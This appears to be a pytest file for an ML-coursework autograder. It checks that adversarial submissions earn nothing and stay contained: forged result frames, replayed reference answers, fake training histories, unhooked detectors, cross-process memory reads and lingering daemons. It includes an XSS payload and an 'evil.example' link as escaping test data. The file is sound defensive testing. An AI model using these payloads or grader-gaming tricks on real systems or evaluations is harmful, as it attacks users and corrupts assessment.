def test_text_from_submissions_is_escaped_in_every_output(graded: Gradebook, tmp_path: Path,
                                                           monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(tmp_path / "summary.md"))
    for name in ("hostile_text_in_messages", "hostile_text_at_import"):
        kept = json.dumps(graded.to_dict()["students"][[s.student for s in graded.students].index(f"attack_{name}")])
        assert "onerror" in kept, f"{name}: the hostile text reached the gradebook (kept, as text)"
    written = render.write_all(graded, tmp_path / "out")
    for path in written:
        content = path.read_text(encoding="utf-8")
        assert "\x1b" not in content and "\x07" not in content, path
        if path.suffix == ".md":
            assert not re.search(r"(?<!\\)<img|(?<!\\)\]\(https://evil", content), path
        if path.suffix == ".html":
            assert "<img src=x" not in content and "&lt;img src=x" in content, path
        if path.suffix == ".csv":
            assert all(not cell.startswith("=") for row in csv.reader(io.StringIO(content)) for cell in row)
    page = (tmp_path / "out" / "feedback" / "attack_hostile_text_in_messages.md").read_text(encoding="utf-8")
    assert "\\<img src=x onerror=alert(1)\\> \\[click\\](https://evil.example)" in page
    results = json.loads((tmp_path / "out" / "gradescope" / "attack_hostile_text_in_messages" /
                          "results.json").read_text(encoding="utf-8"))
    assert results["test_output_format"] == "text"


@pytest.mark.parametrize("name", sorted(kernel_attacks.attacks(Path("/"))))
def test_attacks_on_the_kernel_get_nothing_and_reach_nothing(graded: Gradebook, name: str) -> None:
    item = _cell(graded, f"attack_{name}")
    assert not passed(item), f"{name} passed: {item.verdict}"
    assert item.flagged, f"{name}: the scan names what it uses ({item.verdict})"
    messages = [t.message for t in item.tests]
    assert any("LOOT:" in m for m in messages), f"{name} never ran: {item.verdict}"
    assert kernel_attacks.loot(messages) == [], messages[:1]


def test_nothing_of_the_batch_outlives_it(batch_run: Graded) -> None:
    """No process of the sandbox uids, no daemon, no file made outside a job's folder, no batch folder."""
    assert kernel_attacks.daemons() == []
    assert not kernel_attacks.node_mark().exists() and not ESCAPE_MARK.exists()
    assert batch_run.survivors == {}, "no process of the batch's sandbox uids (read as it ended)"
    assert list(BATCH_TEMP.iterdir()) == [], "the batch's folders are removed"
    honest = _cell(batch_run.book, "honest_good")
    assert honest.status is Status.SCORED and honest.points == honest.max_points, "later jobs ran: the zygote lived"


# -- the trust boundary (issue 23) ---------------------------------------------------------------------------------


def _correctness_points(item: ItemResult) -> float:
    return item.axis_points.get("correctness", 0.0)


@pytest.mark.parametrize("name", sorted([*TRUST_ATTACKS, *CHANNEL_ATTACKS]))
def test_every_trust_attack_gets_no_correctness_points_or_a_flag(graded: Gradebook, name: str) -> None:
    item = _cell(graded, f"attack_{name}", TRUST_ATTACKS[name][0] if name in TRUST_ATTACKS else BOXES)
    assert not passed(item), f"{name} passed: {item.verdict}"
    assert item.flagged or _correctness_points(item) == 0.0, item.verdict
    assert item.verdict and "\n" not in item.verdict


def test_the_batch_exits_0_with_every_output_written(batch_run: Graded) -> None:
    assert batch_run.exit_code == 0
    for name in ("gradebook.csv", "gradebook.md", "gradebook.json", "report.html"):
        assert (batch_run.out / name).is_file(), name
    for student in batch_run.book.students:
        assert (batch_run.out / "feedback" / f"{student.student}.md").is_file(), student.student
        assert (batch_run.out / "gradescope" / student.student / "results.json").is_file(), student.student


def test_an_empty_dpo_finds_no_calibration_and_its_forged_frames_end_only_its_job(graded: Gradebook) -> None:
    item = _cell(graded, "attack_dpo_reads_calibration", DPO)
    assert "INT107" in item.codes and item.status is Status.KILLED, item.verdict
    assert item.points == 0.0 and item.recheck.status != "passed"


def test_no_reference_is_left_in_a_jobs_process_to_forward_to(graded: Gradebook) -> None:
    item = _cell(graded, "attack_dpo_stale_attribute", DPO)
    assert item.recheck.status == "failed" and _correctness_points(item) == 0.0, item.verdict
    assert any("raised" in problem for problem in item.recheck.problems), item.recheck.problems


def test_the_dpo_tests_train_the_learners_own_gpt(graded: Gradebook) -> None:
    item = _cell(graded, "honest_own_gpt", DPO)
    gpt_tests = [t for t in item.tests if "gpt" in t.name]
    assert gpt_tests and all(t.outcome in ("failed", "error") for t in gpt_tests), [(t.name, t.outcome)
                                                                                     for t in gpt_tests]
    assert item.recheck.status == "passed" and not item.flagged, item.verdict


def test_answers_honest_only_on_the_public_inputs_fail_the_recheck(graded: Gradebook) -> None:
    item = _cell(graded, "attack_dpo_loss_public_only", DPO)
    assert item.recheck.status == "failed" and _correctness_points(item) == 0.0, item.verdict
    assert any(problem.startswith(("dpo_loss", "run_dpo")) for problem in item.recheck.problems), item.recheck.problems


def test_another_references_copy_of_the_answers_is_out_of_reach(graded: Gradebook) -> None:
    item = _cell(graded, "attack_dpo_wraps_the_capstone_reference", DPO)
    assert _correctness_points(item) == 0.0, item.verdict


def test_an_answer_in_a_lower_precision_than_the_reference_and_inputs_fails_the_recheck(graded: Gradebook) -> None:
    item = _cell(graded, "attack_dpo_loss_wrong_in_bfloat16", DPO)
    assert item.recheck.status == "failed" and _correctness_points(item) == 0.0, item.verdict
    assert any(problem.startswith("dpo_loss") and "bfloat16" in problem for problem in item.recheck.problems), \
        item.recheck.problems


def test_an_excuse_that_a_case_cannot_be_set_up_is_a_difference_where_no_module_is_given(graded: Gradebook) -> None:
    item = _cell(graded, "attack_dpo_says_its_case_cannot_be_set_up", DPO)
    assert item.recheck.status == "failed" and _correctness_points(item) == 0.0, item.verdict
    assert any("could not be set up" in problem for problem in item.recheck.problems), item.recheck.problems


def test_answers_learned_by_heart_earn_nothing_where_the_fresh_inputs_change_no_answer(graded: Gradebook) -> None:
    """Masks take integers and booleans, which the re-check keeps as they are: the public calls' answers, recorded
    from the reference and looked up, once passed every case ("19 calls agree on fresh inputs") and earned the
    tests' points. A case no draw of fresh inputs changes is no evidence: the item is unverified (the teacher's
    policy, here held for review), for the honest student too."""
    item = _cell(graded, "attack_masks_learned_by_heart", MASKS)
    assert item.recheck.status in ("unverified", "failed") and _correctness_points(item) == 0.0, item.verdict
    # the cases of integer sizes are drawn again with their sizes stirred (causal_mask(T) for a T of this
    # run's), which no table of the public answers holds: the learned answers fail them
    assert item.recheck.status == "failed" and any(p.startswith(("causal_mask", "padding_mask"))
                                                   for p in item.recheck.problems), item.recheck
    honest = _cell(graded, "honest_good", MASKS)
    assert honest.recheck.status == "passed" and honest.recheck.unverified, honest.verdict
    held = sum(t.max_points for t in honest.tests if t.unverified)
    assert held > 0 and honest.recheck.withheld == pytest.approx(held, abs=1e-3), honest.verdict  # 4 decimals


def test_training_that_trains_nothing_fails_the_trusted_replay(graded: Gradebook) -> None:
    item = _cell(graded, "attack_run_dpo_fake_history", DPO)
    assert item.recheck.status == "failed" and _correctness_points(item) == 0.0, item.verdict
    assert any(problem.startswith("run_dpo") for problem in item.recheck.problems), item.recheck.problems


def test_a_forged_transcript_for_kmeans_earns_nothing(graded: Gradebook) -> None:
    item = _cell(graded, "attack_kmeans_forged_transcript", KMEANS)
    assert "INT107" in item.codes and item.points == 0.0, item.verdict
    assert item.recheck.status != "passed"


@pytest.mark.parametrize("name", ["attention_kernel_alias", "attention_unhooks_the_detector"])
def test_a_forbidden_kernel_reached_through_an_alias_is_flagged(graded: Gradebook, name: str) -> None:
    item = _cell(graded, f"attack_{name}", ATTENTION)
    seen = [f for f in item.integrity if f.code == "INT005"]
    assert seen and "ran during the re-check" in seen[0].message, item.integrity
    assert item.points == 0.0


def test_a_forbidden_package_reached_through_another_module_is_flagged(graded: Gradebook) -> None:
    item = _cell(graded, "attack_kmeans_torch_through_another_module", KMEANS)
    assert "INT005" in item.codes and item.points == 0.0, item.verdict


def test_outcomes_forged_in_the_codec_that_frames_them_are_flagged(graded: Gradebook) -> None:
    """The tests of a function the re-check cannot reach are the child's word; one that rewrites that word
    where it is framed is tampering the check after each test sees."""
    item = _cell(graded, "attack_kmeans_forges_its_outcomes", KMEANS)
    assert "INT106" in item.codes and item.points == 0.0, item.verdict
    assert any("Outcome.to_json" in f.message for f in item.integrity), item.integrity


def test_a_test_of_a_name_the_recheck_cannot_verify_earns_only_what_the_policy_says(graded: Gradebook) -> None:
    """The outcomes of the tests that call ``kmeans_plus_plus_init`` (it takes a generator) are the child's
    word: forged or honest, they earn what ``[recheck] unverified`` says (here the default, held for review),
    and the verdict says so; the tests of what the re-check verified keep their points."""
    for student in ("attack_kmeans_init_forged_in_the_reports", "honest_good"):
        item = _cell(graded, student, KMEANS)
        calling = [t for t in item.tests if "kmeans_plus_plus" in t.name]
        assert len(calling) == 3 and all(t.unverified and t.points == 0.0 for t in calling), item.tests
        assert "kmeans_plus_plus_init" in item.recheck.held and "in a way no fresh-input case checks" in item.verdict, (
            item.verdict)
    honest = _cell(graded, "honest_good", KMEANS)
    assert honest.recheck.withheld == pytest.approx(sum(t.max_points for t in honest.tests if t.unverified))
    assert "INT106" in _cell(graded, "attack_kmeans_init_forged_in_the_reports", KMEANS).codes


def test_removing_the_detectors_hook_is_flagged(graded: Gradebook) -> None:
    assert "INT106" in _cell(graded, "attack_attention_unhooks_the_detector", ATTENTION).codes


@pytest.mark.parametrize("name", ["answer_tensor_subclass", "answer_too_large"])
def test_an_answer_that_is_not_plain_data_fails_the_recheck(graded: Gradebook, name: str) -> None:
    item = _cell(graded, f"attack_{name}")
    assert item.recheck.status == "failed" and _correctness_points(item) == 0.0, item.verdict


@pytest.mark.parametrize("name", ["frame_nested_deeply", "frame_duplicated", "frame_out_of_order"])
def test_a_malformed_or_forged_frame_ends_only_its_job(graded: Gradebook, name: str) -> None:
    item = _cell(graded, f"attack_{name}")
    assert "INT107" in item.codes and item.status is Status.KILLED, item.verdict
    assert item.points == 0.0


def test_no_other_process_memory_is_readable_from_a_job(graded: Gradebook) -> None:
    """Not the parent's (it holds the calibration), nor the zygote's, nor a classmate's job's."""
    item = _cell(graded, "attack_read_other_processes_memory")
    messages = [t.message for t in item.tests]
    assert any("LOOT:" in m for m in messages), item.verdict
    assert not any("MEMORY-OF-" in m for m in messages), messages[:1]


def test_a_daemon_left_behind_is_killed_and_flagged(graded: Gradebook) -> None:
    item = _cell(graded, "attack_daemon_left_behind")
    assert "INT110" in item.codes, (item.codes, item.verdict)
    assert item.points == 0.0


def test_the_batch_verifies_what_the_verification_table_says(graded: Gradebook) -> None:
    from pytest_mlcanon.grade.verification import TABLE

    for slug in ITEMS:
        claimed = sorted(name for name, how in TABLE[slug].items() if how.startswith("unverified"))
        assert sorted(_cell(graded, "honest_good", slug).recheck.unverified) == claimed, slug
